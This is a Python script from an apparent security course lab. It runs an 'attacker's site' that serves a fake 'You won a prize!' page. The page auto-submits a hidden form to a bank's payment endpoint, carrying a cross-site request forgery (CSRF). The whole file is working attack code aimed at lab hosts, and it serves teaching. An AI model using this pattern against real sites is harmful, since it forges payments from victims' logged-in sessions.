"""The attacker's site (run it on h2): every page is a form that posts to the bank the
fields its own URL names, and a script that submits it as soon as the page loads. A
victim who is logged in at the bank and opens the page pays whomever the URL says:

    h2$ python3 /labs/ch11/evil_site.py
    h1$ python3 /labs/ch11/browser.py http://www.example.com:11010 login brandon atigdng \\
            submit 'http://h2:11080/?account=sam&dollars=100&memo=gift'
"""
import argparse
import html
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qsl, urlsplit

import labkit

PORT = 11080
BANK = "http://www.example.com:11010/pay"


def trap(bank, fields):
    hidden = "\n".join(f'<input type="hidden" name="{html.escape(k)}" value="{html.escape(v)}">'
                       for k, v in fields)
    return (f'<!DOCTYPE html>\n<html><head><title>You won a prize!</title></head>\n'
            f'<body onload="document.forms[0].submit()">\n'
            f'<form method="post" action="{html.escape(bank)}">\n{hidden}\n</form>\n'
            "</body></html>\n").encode()


def handler_for(bank):
    class Trap(BaseHTTPRequestHandler):
        def do_GET(self):
            body = trap(bank, parse_qsl(urlsplit(self.path).query))
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
    return Trap


def main():
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--port", type=labkit.port, default=PORT)
    parser.add_argument("--bank", default=BANK, help="where the form posts (default %(default)s)")
    args = parser.parse_args()
    ThreadingHTTPServer(("", args.port), handler_for(args.bank)).serve_forever()


if __name__ == "__main__":
    labkit.main(main)
